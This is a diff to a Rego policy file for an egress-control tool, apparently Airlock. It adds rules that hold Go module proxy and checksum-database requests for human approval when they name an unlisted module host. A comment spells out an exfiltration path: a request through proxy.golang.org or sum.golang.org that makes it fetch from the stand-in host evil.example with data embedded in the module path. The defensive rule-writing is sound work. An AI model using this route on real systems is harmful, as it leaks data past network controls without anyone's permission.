@@ -55,6 +55,55 @@ verdicts contains allow("preset.read_post", concat("", ["POST ", host, input.req
 	preset_read_post
 }
 
+# The Go module proxy and checksum database fetch a module they have not seen from the host its
+# path names: `GET proxy.golang.org/evil.example/<data>/@v/list` has the proxy ask
+# `https://evil.example/<data>?go-get=1` (then clone what it points to), and
+# `sum.golang.org/lookup/evil.example/<data>@v1.0.0` has the database fetch it through the proxy.
+# Data in the module path (or in the host's labels) reaches a host nobody allowed, from outside
+# Airlock, as it does through a reader (host.fetches_url; sixteenth pass: the fifteenth left it
+# open). A module whose host the preset's `module_hosts` names (code hosts, whose answers for a
+# made-up path reach no one else, and well-known vanity hosts) goes on; another is held for a human.
+# Add your own modules' hosts there.
+go_module_host := lower(input.request.segments[0]) if {
+	preset_module_fetcher
+	input.request.host == "proxy.golang.org"
+	count(input.request.segments) > 1
+}
+
+go_module_host := lower(split(input.request.segments[1], "@")[0]) if {
+	preset_module_fetcher
+	input.request.host == "sum.golang.org"
+	input.request.segments[0] == "lookup"
+	count(input.request.segments) > 1
+}
+
+preset_module_fetcher if {
+	some name in presets_of_host
+	name in enabled_presets
+	input.request.host in object.get(config.host_presets[name], "module_fetchers", [])
+}
+
+preset_module_host_named(h) if {
+	some name in presets_of_host
+	name in enabled_presets
+	some p in object.get(config.host_presets[name], "module_hosts", [])
+	host_matches(p, h)
+	not wildcard_spans_owners(lower(p), h) # `*.github.io` names an attacker's host too
+}
+
+verdicts contains approve(
+	"preset.fetches_module", concat("", [
+		input.request.method, " ", host, " names a Go module on ", go_module_host, ", a host no module_hosts entry names: the ",
+		"proxy fetches a module it has not seen from that host, so data in the module's path would reach a host nobody ",
+		"allowed; a human must approve (add the host to host_presets.package_registries.module_hosts if its modules are yours to use)",
+	]),
+	"medium",
+) if {
+	preset_host_request
+	h := go_module_host
+	not preset_module_host_named(h)
+}
+
 # Every method the upstream may run counts (request_methods: the request line's and any override's).
 verdicts contains approve("preset.write", concat("", [concat(", ", sort(request_methods)), " to ", host, " publishes or changes something on a registry (host preset ", preset_label, "): a human must approve"]), "high") if {
 	preset_host_request
